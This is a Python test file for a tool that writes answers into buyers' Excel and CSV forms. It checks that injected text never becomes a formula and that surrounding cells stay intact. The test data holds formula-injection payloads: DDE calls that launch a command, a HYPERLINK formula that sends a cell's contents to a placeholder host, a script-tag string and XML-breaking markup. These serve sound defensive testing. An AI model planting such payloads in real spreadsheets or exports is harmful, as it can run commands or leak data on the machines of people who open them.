"""What is written into a buyer's file: never a formula, and nothing but the mapped cells."""

import csv
import io
import zipfile

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aibom.errors import DocumentError
from aibom.package.forms import table, workbook
from aibom.package.forms.records import Mapped, SheetMap, Texts
from aibom.package.forms.texts import harmless

INJECTED = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1,"click")',
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\ufeff=1",
    "\u200b@x",
    "\uff1d1+1",
    "\uff0b1",
    "|calc",
    "%0A=1",
    '"=1',
    "'=1",
    'a";=1+1;"',
    "a;=1+1",
    "a,@x",
    "a\tb=1",
    "<script>alert(1)</script>",
    "]]></t></is></c><c><f>1+1</f></c>",
    "_x003D_1+1",
    "_x000D_=1",
    "&#61;1+1",
    "a\x00\x0b\ud800b",
]
BEGINS = tuple("=+-@|%\t\r\n\uff1d\uff0b\uff0d\uff20")


def sheet(**fields: object) -> SheetMap:
    """A map of one question, in the row with the id `q`."""
    asked = Mapped(id="q", answered_by=("x",), where="map.toml:1")
    return SheetMap(**{"ids": 1, "answer": 2, "questions": (asked,), "where": "map.toml:1", **fields})  # type: ignore[arg-type]


@pytest.fixture(scope="module")
def book() -> bytes:
    """A workbook with one question, and a row whose texts are shared."""
    made = openpyxl.Workbook()
    made.worksheets[0].title = "S"
    made.worksheets[0].append(["q", None, "after"])
    target = io.BytesIO()
    made.save(target)
    return target.getvalue()


@pytest.mark.parametrize("text", INJECTED)
def test_no_formula_is_written(text: str, book: bytes) -> None:
    """In a workbook it is text whatever it begins with; in a CSV no field begins as a formula, by whatever separator."""
    said = Texts(answer=text, assurance="", evidence="")
    made = workbook.filled(book, [sheet(name="S")], lambda _: said, name="in")
    cells = openpyxl.load_workbook(io.BytesIO(made))["S"]
    assert [cell.data_type for cell in cells[1]] == ["s", "s", "s"]
    assert cells["B1"].value.replace("_x005F_", "_") == harmless(text)
    assert not str(cells["B1"].value).startswith(BEGINS)
    assert cells["C1"].value == "after"
    written = table.filled(b"q,,after\r\n", [sheet()], lambda _: said, name="in").decode()
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(written, newline=""), delimiter=separator):
            assert not [field for field in row if field.lstrip(" \"'").startswith(BEGINS) and "'" not in field]
    ((_, found, after),) = csv.reader(io.StringIO(written, newline=""))
    assert after == "after"
    assert not found.startswith(BEGINS)


@settings(max_examples=40, deadline=None)
@given(
    st.lists(
        st.lists(st.text(st.characters(exclude_characters="\0", codec="utf-8"), max_size=8), min_size=1, max_size=5)
    ),
    st.sampled_from(",;\t"),
    st.sampled_from(["\n", "\r\n"]),
)
def test_other_fields_stay(rows: list[list[str]], separator: str, end: str) -> None:
    """Whatever a CSV holds, its other fields are afterwards what they were, and so is their number."""
    rows = [["head", "", "x"], *([each[0].replace("q", ""), *each[1:]] for each in rows), ["q"]]
    target = io.StringIO(newline="")
    csv.writer(target, delimiter=separator, lineterminator=end).writerows(rows)
    data = target.getvalue().encode()
    said = Texts(answer="an answer", assurance="", evidence="")
    made = table.filled(data, [sheet()], lambda _: said, name="in").decode()
    found = list(csv.reader(io.StringIO(made, newline=""), delimiter=separator))
    assert found[:-1] == list(csv.reader(io.StringIO(data.decode(), newline=""), delimiter=separator))[:-1]
    assert found[-1] == ["q", "an answer"]
    assert made.encode().startswith(data[: data.rindex(b"q")])


def test_cells_keep_their_order_and_prefix(book: bytes) -> None:
    """Several new cells of a row, before and behind those that are there; a sheet whose elements have a prefix."""
    said = Texts(answer="one", assurance="two", evidence="three")
    mapped = sheet(name="S", answer=2, assurance=28, evidence=26)
    made = workbook.filled(book, [mapped], lambda _: said, name="in")
    found = openpyxl.load_workbook(io.BytesIO(made))["S"]
    assert [found[each].value for each in ("B1", "C1", "Z1", "AB1")] == ["one", "after", "three", "two"]
    from aibom.package.forms.worksheet import filled  # noqa: PLC0415  here alone

    xml = (
        b'<?xml version="1.0"?><x:worksheet xmlns:x="urn:x"><x:cols><x:col min="2" max="2" style="7"/></x:cols>'
        b'<x:sheetData><x:row spans="1:1"><x:c t="inlineStr"><x:is><x:r><x:t>q</x:t></x:r></x:is></x:c></x:row>'
        b"<x:row r='9'/></x:sheetData></x:worksheet>"
    )
    made = filled(xml, sheet(name="S"), [], lambda _: said, called="S")
    new = b'<x:c r="B1" s="7" t="inlineStr"><x:is><x:t xml:space="preserve">one</x:t></x:is></x:c>'
    assert made == xml.replace(b' spans="1:1"', b"").replace(b"</x:row>", new + b"</x:row>", 1)


TRANSITIONAL = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LIKE_EXCEL = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
    f'<worksheet xmlns="{TRANSITIONAL}" xmlns:mc="urn:mc" mc:Ignorable="x14ac" xmlns:x14ac="urn:x14ac"><dimension ref="A1:B2"/>'
    '<sheetData><row r="1" spans="1:2" x14ac:dyDescent="0.25"><c r="A1" t="s"><v>1</v></c><c r="B1" s="3"/></row>'
    '<row r="2" spans="1:2" x14ac:dyDescent="0.25"><c r="A2" t="s"><v>0</v></c><c r="B2"><f>LEN(B1)</f><v>0</v></c></row>'
    '</sheetData><extLst><ext uri="{x}"><x14ac:y a="1>2"/></ext></extLst></worksheet>'
).encode()
SHARED = (
    f'<sst xmlns="{TRANSITIONAL}"><si><t>other</t></si><si><r><rPr><b/></rPr><t>q</t></r><r><t xml:space="preserve"> </t></r>'
    "<rPh><t>kana</t></rPh></si></sst>"
).encode()


def like_excel(book: bytes) -> bytes:
    """The workbook with a worksheet and shared texts as Excel writes them."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(book)) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as made:
        for name in source.namelist():
            data = source.read(name)
            if name == "xl/worksheets/sheet1.xml":
                data = LIKE_EXCEL
            if name == "xl/_rels/workbook.xml.rels":
                relation = (
                    b'<Relationship Id="rS" Type="urn:x/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
                )
                data = data.replace(b"</Relationships>", relation)
            made.writestr(name, data)
        made.writestr("xl/sharedStrings.xml", SHARED)
    return target.getvalue()


def test_a_worksheet_as_excel_writes_it(book: bytes) -> None:
    """Ids are found among shared texts, of several runs too and without their reading aid; all else stays, byte for byte."""
    said = Texts(answer="one", assurance="two", evidence="")
    made = workbook.filled(like_excel(book), [sheet(name="S", assurance=3)], lambda _: said, name="in")
    with zipfile.ZipFile(io.BytesIO(made)) as found:
        now = found.read("xl/worksheets/sheet1.xml")
    cells = [
        f'<c r="{name}"{style} t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'.encode()
        for name, style, text in (("B1", ' s="3"', "one"), ("C1", "", "two"))
    ]
    expected = LIKE_EXCEL.replace(b'<c r="B1" s="3"/>', b"".join(cells)).replace(b' spans="1:2"', b"", 1)
    assert now == expected


@settings(max_examples=60, deadline=None)
@given(
    st.integers(min_value=0),
    st.integers(0, 40),
    st.sampled_from(["<", ">", '"', "/>", "<c/>", "]]>", "\0", "<f/>", "é"]),
)
def test_damaged_workbooks(place: int, length: int, text: str) -> None:
    """Whatever is cut out of a worksheet, or put in, it is filled in or refused, and nothing else happens."""
    from aibom.package.forms.worksheet import filled  # noqa: PLC0415  here alone

    at = place % len(LIKE_EXCEL)
    data = LIKE_EXCEL[:at] + text.encode() + LIKE_EXCEL[at + length :]
    said = Texts(answer="=1", assurance="", evidence="")
    try:
        made = filled(data, sheet(name="S"), ["other", "q"], lambda _: said, called="S")
    except DocumentError:
        return
    assert b"'=1</t></is></c>" in made.replace(b"</x:", b"</")
